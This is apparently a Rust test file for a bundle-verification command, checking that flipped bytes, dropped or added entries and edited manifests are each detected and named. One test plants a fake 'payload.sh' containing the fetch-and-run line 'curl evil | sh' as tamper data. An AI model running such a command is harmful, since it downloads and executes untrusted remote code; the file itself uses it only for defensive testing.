//! `verify`: an intact bundle passes; each kind of tampering is caught and named.

use super::*;

fn bundle() -> (Test, PathBuf) {
    let m = demo_machine("1.2.0", "6.1.0-18-amd64", "started\nready\n");
    let b = m.collect();
    (m, b)
}

/// Rebuild `src` at `dst` with `edit` applied to its entries.
fn tamper(src: &Path, dst: &Path, edit: impl FnOnce(&mut Vec<(String, Vec<u8>)>)) {
    let mut entries = read_entries(src);
    edit(&mut entries);
    write_zip(dst, &entries);
}

fn verify(path: &Path) -> (i32, String) {
    let (code, stdout, stderr) = run_code(&["verify", path.to_str().expect("utf-8")]);
    (code, format!("{stdout}{stderr}"))
}

#[test]
fn intact_bundle_verifies_and_its_name_carries_the_id() {
    let (_m, b) = bundle();
    let (code, out) = verify(&b);
    assert_eq!(code, 0, "{out}");
    let id = bundle_id(&b);
    assert!(out.contains(&id), "{out}");
    let name = b.file_name().expect("name").to_string_lossy().into_owned();
    assert_eq!(name, format!("demo-bundle-{}.zip", &id[..12]));
}

#[test]
fn flipped_byte_in_an_entry_is_named() {
    let (m, b) = bundle();
    let bad = m.path().join("flipped.zip");
    tamper(&b, &bad, |e| {
        let log = e
            .iter_mut()
            .find(|(n, _)| n == "files/log/demo.log")
            .expect("log");
        log.1[0] ^= 0x20;
    });
    let (code, out) = verify(&bad);
    assert_eq!(code, 1, "{out}");
    assert!(out.contains("files/log/demo.log: content changed"), "{out}");
    assert_eq!(out.matches("content changed").count(), 1, "{out}");
}

#[test]
fn flipped_byte_in_the_compressed_data_is_caught() {
    let (m, b) = bundle();
    let mut bytes = std::fs::read(&b).expect("read");
    // The first entry's data starts after its 30-byte local header and name.
    let name_len = usize::from(u16::from_le_bytes([bytes[26], bytes[27]]));
    bytes[30 + name_len + 2] ^= 0xff;
    let bad = m.path().join("corrupt.zip");
    std::fs::write(&bad, bytes).expect("write");
    let (code, out) = verify(&bad);
    assert_eq!(code, 1, "{out}");
    assert!(out.contains("TAMPERED"), "{out}");
}

#[test]
fn dropped_entry_is_named() {
    let (m, b) = bundle();
    let bad = m.path().join("dropped.zip");
    tamper(&b, &bad, |e| e.retain(|(n, _)| n != "commands/version.txt"));
    let (code, out) = verify(&bad);
    assert_eq!(code, 1, "{out}");
    assert!(
        out.contains("commands/version.txt: listed in the manifest but not in the zip"),
        "{out}"
    );
}

#[test]
fn added_entry_is_named() {
    let (m, b) = bundle();
    let bad = m.path().join("added.zip");
    tamper(&b, &bad, |e| {
        e.push((
            "files/extra/payload.sh".into(),
            b"curl evil | sh\n".to_vec(),
        ))
    });
    let (code, out) = verify(&bad);
    assert_eq!(code, 1, "{out}");
    assert!(
        out.contains("files/extra/payload.sh: in the zip but not in the manifest"),
        "{out}"
    );
}

#[test]
fn edited_manifest_no_longer_matches_the_file_name() {
    let (m, b) = bundle();
    let bad = m.path().join("out").join("edited.zip");
    tamper(&b, &bad, |e| {
        let man = e
            .iter_mut()
            .find(|(n, _)| n == "manifest.json")
            .expect("manifest");
        let text = String::from_utf8(man.1.clone()).expect("utf-8");
        man.1 = text.replace("6.1.0-18-amd64", "6.9.0-1-amd64").into_bytes();
    });
    // Same shape of name as the original: the id12 in it no longer matches.
    let renamed = m.path().join("out").join(b.file_name().expect("name"));
    std::fs::rename(&bad, &renamed).expect("rename");
    let (code, out) = verify(&renamed);
    assert_eq!(code, 1, "{out}");
    assert!(out.contains("does not carry the bundle id"), "{out}");
}

#[test]
fn manifest_edited_to_cover_a_changed_entry_still_fails_on_hashes_or_name() {
    let (m, b) = bundle();
    let bad = m.path().join("covered.zip");
    tamper(&b, &bad, |e| {
        let man = e
            .iter_mut()
            .find(|(n, _)| n == "manifest.json")
            .expect("manifest");
        let mut value: serde_json::Value = serde_json::from_slice(&man.1).expect("json");
        value["files"]["files/log/demo.log"]["size"] = serde_json::json!(3);
        man.1 = serde_json::to_vec_pretty(&value).expect("json");
    });
    let (code, out) = verify(&bad);
    assert_eq!(code, 1, "{out}");
    assert!(out.contains("files/log/demo.log: size"), "{out}");
    assert!(out.contains("item log: its size disagrees"), "{out}");
}

#[test]
fn garbage_manifest_is_tampered_and_a_non_zip_is_an_input_error() {
    let (m, b) = bundle();
    let bad = m.path().join("garbage.zip");
    tamper(&b, &bad, |e| {
        let man = e
            .iter_mut()
            .find(|(n, _)| n == "manifest.json")
            .expect("manifest");
        man.1 = b"{ not json".to_vec();
    });
    let (code, out) = verify(&bad);
    assert_eq!(code, 1, "{out}");
    assert!(out.contains("manifest.json"), "{out}");

    let text = m.path().join("notes.zip");
    std::fs::write(&text, "just text\n").expect("write");
    let (code, out) = verify(&text);
    assert_eq!(code, 2, "{out}");
    assert!(out.contains("not a readable zip"), "{out}");
    let (code, out) = verify(&m.path().join("absent.zip"));
    assert_eq!(code, 2, "{out}");
    assert!(out.contains("cannot read"), "{out}");
}
